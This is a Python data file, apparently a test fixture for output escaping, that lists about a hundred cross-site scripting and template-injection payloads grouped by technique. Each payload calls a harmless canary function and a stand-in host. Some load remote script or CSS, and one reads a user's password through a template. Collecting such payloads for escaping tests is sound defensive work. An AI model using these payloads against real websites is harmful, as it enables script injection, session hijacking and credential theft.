"""What an attacker types into a text field. Each would call zx7 if it were ever run.

Collected by kind: where a page forgets to escape a text, one of these changes the page.
"""

CANARY = "zx7"

SCRIPTS = [
    "<script>zx7()</script>",
    "<ScRiPt>zx7()</sCrIpT>",
    "<script src=//zx7.example/x.js></script>",
    "<script src=data:text/javascript,zx7()></script>",
    "<script>zx7()//",
    "</script><script>zx7()</script>",
    "<scr<script>ipt>zx7()</scr</script>ipt>",
    "<script\x0bsrc=//zx7.example></script>",
    "<script type=module>zx7()</script>",
    "<<script>zx7()//<</script>",
]
EVENTS = [
    "<img src=zx7 onerror=zx7()>",
    "<img/src/onerror=zx7()>",
    "<img src=zx7 onerror=\"zx7()\" x=`",
    "<body onload=zx7()>",
    "<input autofocus onfocus=zx7()>",
    "<details open ontoggle=zx7()>",
    "<video><source onerror=zx7()></video>",
    "<audio src=zx7 onerror=zx7()>",
    "<marquee onstart=zx7()>",
    "<div onpointerenter=zx7() tabindex=1 autofocus>zx7</div>",
    "<a id=zx7 tabindex=1 onfocus=zx7()></a>",
    "<p onanimationstart=zx7() style=animation-name:rotation>",
    "<dialog open onclose=zx7()><form method=dialog>",
]  # fmt: skip
DRAWINGS = [
    "<svg onload=zx7()>",
    "<svg><script>zx7()</script></svg>",
    "<svg><animate onbegin=zx7() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:zx7()><text y=9>zx7</text></a></svg>",
    "<svg><use href=data:image/svg+xml,zx7#x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>zx7()</script>'></svg>",
    "<svg><set attributeName=onmouseover to=zx7()>",
    "<math><maction actiontype=statusline xlink:href=javascript:zx7()>zx7</math>",
    "<math href=javascript:zx7()>zx7</math>",
]
BREAKOUTS = [
    "\" onmouseover=zx7() x=\"",
    "' onmouseover=zx7() x='",
    "\"><script>zx7()</script>",
    "'><img src=zx7 onerror=zx7()>",
    "\" autofocus onfocus=zx7() x=\"",
    "x onfocus=zx7() autofocus",
    "`-zx7()-`",
    "</textarea><script>zx7()</script>",
    "</title><script>zx7()</script>",
    "</option></select><img src=zx7 onerror=zx7()>",
    "--><script>zx7()</script><!--",
    "]]><script>zx7()</script>",
    "</style><script>zx7()</script>",
    "\" style=\"background:url(//zx7.example)",
]  # fmt: skip
ADDRESSES = [
    "javascript:zx7()",
    "JaVaScRiPt:zx7()",
    " javascript:zx7()",
    "java\tscript:zx7()",
    "javascript://%0azx7()",
    "javascript&colon;zx7()",
    "data:text/html,<script>zx7()</script>",
    "data:text/html;base64,PHNjcmlwdD56eDcoKTwvc2NyaXB0Pg==",
    "vbscript:zx7()",
    "//zx7.example/",
    "\\\\zx7.example\\",
    "<a href=javascript:zx7()>zx7</a>",
    "<form action=javascript:zx7()><button>zx7</button></form>",
    "<iframe src=javascript:zx7()></iframe>",
    "<object data=javascript:zx7()>",
    "<embed src=data:text/html,zx7>",
    "<base href=//zx7.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:zx7()'>",
]
TEMPLATES = [
    "{{ request.user.password }}zx7",
    "{% debug %}zx7",
    "{% include 'zx7' %}",
    "{{7*7}}zx7",
    "${zx7()}",
    "#{zx7()}",
    "<%= zx7() %>",
    "%(zx7)s {zx7} %s",
    "{# zx7",
]
SWAPS = [
    "<div hx-get=/account/logout/ hx-trigger=load>zx7</div>",
    "<div hx-on:load=zx7() hx-on::load=zx7()>zx7</div>",
    "<div data-hx-get=//zx7.example/ data-hx-trigger=load></div>",
    "<div hx-vals='js:{a:zx7()}' hx-post=/ hx-trigger=load></div>",
    "<div hx-swap-oob=true id=main>zx7</div>",
    "<div hx-ext=zx7 hx-vars=a:zx7()></div>",
]
SHAPES = [
    "<form id=zx7><input name=attributes><input name=parentNode></form>",
    "<a id=zx7><a id=zx7 name=href href=//zx7.example/>",
    "<img name=getElementById><img name=cookie id=zx7>",
    "<input form=zx7 name=csrfmiddlewaretoken value=zx7>",
]
STYLES = [
    "<style>*{background:url(//zx7.example/)}</style>",
    "<style>@import '//zx7.example/x.css';</style>",
    "<link rel=stylesheet href=//zx7.example/x.css>",
    "<p style=background:url(//zx7.example/)>zx7",
    "expression(zx7())",
]
DRESSED = [
    "\uff1cscript\uff1ezx7()\uff1c/script\uff1e",
    "\u02b9\u02ba><script>zx7()</script>",
    "&lt;script&gt;zx7()&lt;/script&gt;",
    "&#60;script&#62;zx7()&#60;/script&#62;",
    "%3Cscript%3Ezx7()%3C/script%3E",
    "\\u003cscript\\u003ezx7()\\u003c/script\\u003e",
    "+ADw-script+AD4-zx7()+ADw-/script+AD4-",
    "\u202e<script>zx7()</script>\u202c",
    "\ufeff<script>zx7()</script>",
    "<script>zx7\u2028()</script>",
    "<\u200bscript>zx7()</script>",
]
NOTATIONS = [
    "\"};zx7();//",
    "'};zx7();//",
    "\\\"};zx7();//",
    "\");zx7();//",
    "</script><img src=zx7 onerror=zx7()>",
    "\u2028zx7()//",
]  # fmt: skip
MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=zx7 onerror=zx7()>\">",
    "<math><mtext><table><mglyph><style><img src=zx7 onerror=zx7()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=zx7()>",
    "<svg></p><style><a id=\"</style><img src=zx7 onerror=zx7()>\">",
    "<template><script>zx7()</script></template>",
    "<select><noembed></select><script>zx7()</script>",
    "<xmp><p title=\"</xmp><img src=zx7 onerror=zx7()>\">",
    "<table><a href=javascript:zx7()>zx7<table></a>",
]  # fmt: skip

PAYLOADS = [
    *SCRIPTS, *EVENTS, *DRAWINGS, *BREAKOUTS, *ADDRESSES, *TEMPLATES, *SWAPS, *SHAPES,
    *STYLES, *DRESSED, *NOTATIONS, *MUTATIONS,
]  # fmt: skip
